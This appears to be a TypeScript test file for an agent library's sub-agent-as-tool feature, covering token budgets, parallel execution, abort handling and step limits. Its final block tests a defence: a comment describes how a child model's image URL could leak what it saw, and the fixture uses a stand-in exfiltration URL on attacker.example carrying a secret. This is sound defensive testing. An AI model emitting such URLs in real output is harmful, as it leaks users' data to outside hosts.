import { Agent, type AgentEvent, BudgetExceededError, type Message, RunAbortedError, tool } from "glassloop";
import { FunctionModel, ScriptedModel } from "glassloop/testing";
import { describe, expect, it } from "vitest";
import { z } from "zod";

const upper = tool({
  name: "upper",
  description: "Upper-cases text.",
  input: z.object({ text: z.string() }),
  run: ({ text }) => text.toUpperCase(),
});

function toolResults(messages: Message[]) {
  return messages.filter((m) => m.role === "tool");
}

describe("agent.asTool", () => {
  it("runs the child like a tool, rolls its usage up and nests its events", async () => {
    const child = new Agent({
      instructions: "Shout.",
      model: new ScriptedModel([
        { toolCalls: [{ name: "upper", args: { text: "hi" } }], usage: { inputTokens: 10, outputTokens: 5 } },
        { text: "HI", usage: { inputTokens: 20, outputTokens: 1 } },
      ]),
      tools: [upper],
    });
    const parent = new Agent({
      model: new ScriptedModel([
        {
          toolCalls: [{ name: "shouter", args: { input: "say hi loudly" } }],
          usage: { inputTokens: 100, outputTokens: 10 },
        },
        { text: "The child said HI.", usage: { inputTokens: 200, outputTokens: 7 } },
      ]),
      tools: [child.asTool({ name: "shouter", description: "Shouts." })],
    });
    const events: AgentEvent[] = [];
    const result = await parent.run("Make it loud", { onEvent: (e) => events.push(e) });
    expect(result.output).toBe("The child said HI.");
    expect(toolResults(result.messages)).toMatchObject([{ toolName: "shouter", content: "HI" }]);
    expect(result.usage.inputTokens).toBe(330);
    expect(result.usage.outputTokens).toBe(23);
    expect(result.usage.requests).toBe(4);
    expect(result.usage.toolCalls).toBe(2);
    const nested = events.filter((e) => e.type === "nested");
    expect(nested.map((e) => e.event.type)).toContain("tool_call");
    expect(nested.every((e) => e.toolName === "shouter")).toBe(true);
    expect(nested.at(-1)?.event.type).toBe("run_end");
  });

  it("stops a child that would exceed the parent's remaining budget and reports it as the tool's error", async () => {
    const child = new Agent({
      model: new ScriptedModel([
        { toolCalls: [{ name: "upper", args: { text: "a" } }], usage: { inputTokens: 50, outputTokens: 50 } },
        { text: "never reached" },
      ]),
      tools: [upper],
    });
    const parentModel = new ScriptedModel([
      {
        toolCalls: [{ name: "child", args: { input: "work" } }],
        usage: { inputTokens: 100, outputTokens: 0 },
      },
      { text: "unreachable" },
    ]);
    const parent = new Agent({
      model: parentModel,
      tools: [child.asTool({ name: "child", description: "Works." })],
      limits: { maxTokens: 150 },
    });
    const error = await parent.run("go").catch((e: unknown) => e);
    expect(error).toBeInstanceOf(BudgetExceededError);
    const budget = error as BudgetExceededError;
    expect(budget.limit).toBe("maxTokens");
    expect(budget.used).toBe(200);
    const [result] = toolResults(budget.messages);
    expect(result).toMatchObject({ toolName: "child", isError: true });
    expect(result?.content).toMatch(/Sub-agent "child" failed \(budget_exceeded\)/);
  });

  it("runs several children of one turn in parallel", async () => {
    let running = 0;
    let peak = 0;
    const slow = (name: string) =>
      new Agent({
        model: new FunctionModel(async () => {
          running++;
          peak = Math.max(peak, running);
          await new Promise((r) => setTimeout(r, 30));
          running--;
          return { text: `${name} done` };
        }),
      }).asTool({ name, description: name });
    const parent = new Agent({
      model: new ScriptedModel([
        {
          toolCalls: [
            { name: "a", args: { input: "x" } },
            { name: "b", args: { input: "y" } },
            { name: "c", args: { input: "z" } },
          ],
        },
        { text: "all done" },
      ]),
      tools: [slow("a"), slow("b"), slow("c")],
      environment: { concurrency: 3 },
    });
    const result = await parent.run("fan out");
    expect(peak).toBe(3);
    expect(toolResults(result.messages).map((m) => m.content)).toEqual(["a done", "b done", "c done"]);
  });

  it("propagates the parent's abort into the child", async () => {
    let childSignal: AbortSignal | undefined;
    const child = new Agent({
      model: new FunctionModel(() => ({ delayMs: Number.POSITIVE_INFINITY, text: "" })),
    }).asTool({ name: "sleeper", description: "Sleeps." });
    const spy = new Agent({
      model: new ScriptedModel([{ toolCalls: [{ name: "sleeper", args: { input: "zzz" } }] }]),
      tools: [child],
    });
    const controller = new AbortController();
    const pending = spy.run("sleep", {
      signal: controller.signal,
      onEvent: (e) => {
        if (e.type === "nested" && e.event.type === "model_request") {
          childSignal = controller.signal;
          controller.abort();
        }
      },
    });
    const error = await pending.catch((e: unknown) => e);
    expect(childSignal?.aborted).toBe(true);
    expect(error).toBeInstanceOf(RunAbortedError);
    expect(toolResults((error as RunAbortedError).messages)).toMatchObject([
      { toolName: "sleeper", isError: true },
    ]);
  });
});

describe("agent.asTool and the parent's maxSteps", () => {
  it("counts only the parent's own model calls as its steps", async () => {
    const child = new Agent({
      model: new ScriptedModel([
        { toolCalls: [{ name: "upper", args: { text: "a" } }] },
        { toolCalls: [{ name: "upper", args: { text: "b" } }] },
        { text: "AB" },
      ]),
      tools: [upper],
    });
    const parent = new Agent({
      model: new ScriptedModel([
        { toolCalls: [{ name: "child", args: { input: "x" } }] },
        { text: "AB it is" },
      ]),
      tools: [child.asTool({ name: "child", description: "Works." })],
      limits: { maxSteps: 2 },
    });
    const result = await parent.run("go");
    expect(result.output).toBe("AB it is");
    expect(result.usage.requests).toBe(5);
    expect(result.usage.steps).toHaveLength(2);
  });
});

describe("agent.asTool: the child's output is data, not content", () => {
  // An image block with a URL of the child model's choosing: read as image content, the parent's
  // provider would fetch that URL (a channel out for whatever the child saw).
  const imageShaped = z.object({ type: z.literal("image"), mediaType: z.string(), url: z.string() });
  const chosen = { type: "image", mediaType: "image/png", url: "https://attacker.example/x.png?secret=42" };

  it("sends a child's image-shaped output to the parent's model as JSON text, with no image part", async () => {
    const child = new Agent({
      model: new ScriptedModel([{ toolCalls: [{ name: "final_result", args: chosen }] }]),
      output: imageShaped,
    });
    const parent = new Agent({
      model: new ScriptedModel([
        { toolCalls: [{ name: "draw", args: { input: "draw a cat" } }] },
        { text: "done" },
      ]),
      tools: [child.asTool({ name: "draw", description: "Draws." })],
    });
    const result = await parent.run("Draw");
    const [message] = toolResults(result.messages);
    expect(message).toMatchObject({ toolName: "draw", content: JSON.stringify(chosen) });
    expect(message).not.toHaveProperty("images");
    expect(message).not.toHaveProperty("isError");
  });

  it("still reads the same value as an image from a plain tool, which the user wrote", async () => {
    const plain = tool({
      name: "draw",
      description: "Draws.",
      input: z.object({}),
      run: () => chosen,
    });
    const parent = new Agent({
      model: new ScriptedModel([{ toolCalls: [{ name: "draw", args: {} }] }, { text: "done" }]),
      tools: [plain],
    });
    const result = await parent.run("Draw");
    const [message] = toolResults(result.messages);
    expect(message).toMatchObject({ images: [{ type: "image", url: chosen.url }] });
  });
});
